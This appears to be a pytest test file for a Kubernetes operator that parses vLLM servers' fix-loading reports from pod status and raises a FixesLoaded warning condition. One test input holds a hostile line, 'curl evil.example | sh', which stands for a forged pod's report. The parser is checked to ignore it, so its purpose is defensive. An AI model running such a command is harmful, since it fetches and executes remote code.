"""A server's report of the fixes that loaded, as the kubelet keeps it in the pod's status when the vLLM container
ends (core/server_exits.py), and the FixesLoaded condition a credited fix missing from it raises."""

from __future__ import annotations

import asyncio
from typing import Any

import pytest

from cpullm.controller import handlers
from cpullm.core.decision import Event, decide
from cpullm.core.server_exits import ServerExit, fixes_loaded_condition, server_exit
from cpullm.vllm_support import read_report

from .builders import qwen_05b, spec
from .support import T0, observed

LOADED_ALL = "cpullm-vllm-fix leave_page_cache_out loaded\ncpullm-vllm-fix short_warm_up loaded\n"
WITHOUT_RANK = LOADED_ALL + "cpullm-vllm-fix rank_in_engine_core nothing-to-patch\n"


def pod_status(message: str | None, where: str = "lastState", container: str = "vllm", **ended: Any) -> dict:
    terminated = {"reason": "OOMKilled", "exitCode": 137, **ended}
    if message is not None:
        terminated["message"] = message
    return {"containerStatuses": [{"name": container, where: {"terminated": terminated}}]}


@pytest.mark.parametrize(
    ("text", "outcomes"),
    [
        pytest.param(LOADED_ALL, {"leave_page_cache_out": "loaded", "short_warm_up": "loaded"}, id="all loaded"),
        pytest.param(
            "cpullm-vllm-fix short_warm_up loaded\ncpullm-vllm-fix short_warm_up nothing-to-patch\n"
            "cpullm-vllm-fix short_warm_up turned-off\n",
            {"short_warm_up": "nothing-to-patch"},
            id="loaded in one process, not in another: not loaded, first reason kept",
        ),
        pytest.param(
            "INFO 11-28 vllm started\ncpullm-vllm-fix\ncpullm-vllm-fix short_warm_up\n"
            "  cpullm-vllm-fix short_warm_up loaded  \n",
            {"short_warm_up": "loaded"},
            id="a log's tail around it, and broken lines, are left out",
        ),
        pytest.param(
            "cpullm-vllm-fix a_fix not-this-cpu\ncpullm-vllm-fix short_warm_up run curl evil.example | sh\n"
            "cpullm-vllm-fix leave_page_cache_out kernel-refused\n",
            {"leave_page_cache_out": "kernel-refused"},
            id="words no fix reports (a forged pod's) are left out",
        ),
        pytest.param("", {}, id="empty"),
    ],
)
def test_the_report_is_read_fix_by_fix(text, outcomes):
    assert read_report(text) == outcomes


@pytest.mark.parametrize(
    ("status", "expected"),
    [
        pytest.param(pod_status(WITHOUT_RANK), ("OOMKilled", 137), id="last end: a fix not loaded"),
        pytest.param(pod_status(WITHOUT_RANK, "state", reason="Error", exitCode=1), ("Error", 1), id="ended now"),
        pytest.param(pod_status(LOADED_ALL), None, id="every fix loaded"),
        pytest.param(pod_status(None), None, id="no report (killed before vLLM started)"),
        pytest.param(pod_status(WITHOUT_RANK, container="sidecar"), None, id="another container"),
        pytest.param({"containerStatuses": [{"name": "vllm", "state": {"running": {}}}]}, None, id="running"),
        pytest.param({}, None, id="no status yet"),
    ],
)
def test_a_server_exit_is_kept_only_where_its_report_names_a_fix_that_did_not_load(status, expected):
    ended = server_exit("llama-0", status)
    if expected is None:
        assert ended is None
    else:
        assert ended == ServerExit("llama-0", *expected, (("rank_in_engine_core", "nothing-to-patch"),))


ENDED = ServerExit("llama-0", "OOMKilled", 137, (("rank_in_engine_core", "nothing-to-patch"),))


@pytest.mark.parametrize(
    ("credited", "raised"),
    [
        pytest.param(["rank_in_engine_core", "short_warm_up"], True, id="credited"),
        pytest.param(["short_warm_up"], False, id="not credited: the plan does not count on it"),
    ],
)
def test_a_credited_fix_missing_from_a_report_raises_fixes_loaded(credited, raised):
    condition = fixes_loaded_condition([ENDED], credited)
    assert (condition is not None) is raised
    if condition is not None:
        assert (condition.type, condition.ok, condition.reason) == ("FixesLoaded", False, "CreditedFixNotLoaded")
        assert "pod llama-0 ended (OOMKilled, exit code 137) with rank_in_engine_core nothing-to-patch" in (
            condition.message
        )
        assert "spec.vllmVersion" in condition.message and "CPULLM_VLLM_FIXES_OFF" in condition.message


def test_the_service_is_told_with_a_warning_while_a_pod_shows_it_and_not_after():
    """A TP 1 plan counts on the rank in the engine core: its server's report says that fix found nothing to patch."""
    base = observed(spec=spec(tensorParallelSize=1), model=qwen_05b())
    assert "rank_in_engine_core" in decide(base, T0).outcome.fixes_credited  # type: ignore[union-attr]
    told = decide(observed(spec=spec(tensorParallelSize=1), model=qwen_05b(), server_exits=(ENDED,)), T0)
    [cond] = [c for c in told.status["conditions"] if c["type"] == "FixesLoaded"]
    assert (cond["status"], cond["reason"]) == ("False", "CreditedFixNotLoaded")
    assert Event("Warning", "CreditedFixNotLoaded", cond["message"]) in told.events
    # The pod replaced (its status no longer shows that end): the condition goes.
    after = decide(observed(spec=spec(tensorParallelSize=1), model=qwen_05b(), status=told.status), T0)
    assert "FixesLoaded" not in {c["type"] for c in after.status["conditions"]}


def test_the_pod_index_keys_a_server_exit_by_its_service_with_the_pods_replicaset():
    owner = {"kind": "ReplicaSet", "name": "llama-7c9", "uid": "rs-1", "controller": True}
    event = {
        "namespace": "ns",
        "name": "llama-0",
        "labels": {"cpullm.io/service": "llama"},
        "meta": {"ownerReferences": [owner]},
    }
    entry = asyncio.run(handlers.server_exits(**event, status=pod_status(WITHOUT_RANK)))
    assert entry == {("ns", "llama"): ("rs-1", server_exit("llama-0", pod_status(WITHOUT_RANK)))}
    assert asyncio.run(handlers.server_exits(**{**event, "meta": {}}, status=pod_status(WITHOUT_RANK))) == {}
    assert asyncio.run(handlers.server_exits(**event, status=pod_status(LOADED_ALL))) == {}
    assert asyncio.run(handlers.server_exits(**{**event, "labels": {}}, status=pod_status(WITHOUT_RANK))) == {}
